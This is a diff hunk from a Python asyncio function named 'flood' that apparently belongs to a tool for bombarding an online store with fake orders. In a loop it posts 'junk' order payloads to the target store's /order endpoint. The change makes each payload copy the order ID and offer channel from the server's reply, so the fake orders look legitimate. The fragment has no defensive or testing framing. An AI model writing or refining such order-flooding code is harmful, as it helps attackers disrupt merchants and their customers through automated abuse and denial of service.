@@ -131,8 +131,9 @@ async def flood(target: Target) -> None:
                     await asyncio.wait_for(exchange(reader, writer, keyless), 10)
                     body = await asyncio.wait_for(exchange(reader, writer, state), 10)
                     body = body.partition(b"\r\n\r\n")[2]
-                    order = json.loads(body)["order"] if b'"order"' in body else "none"
-                    junk = json.dumps({"order": order, "amount": "1.00"}).encode()
+                    shown = json.loads(body)
+                    chosen = {"order": shown["order"], "amount": "1.00", "channel": shown["offers"][0]["channel"]}
+                    junk = json.dumps(chosen).encode()
                     await asyncio.wait_for(exchange(reader, writer, post(f"{target.store}/order", junk)), 10)
             await asyncio.sleep(0.05)
 
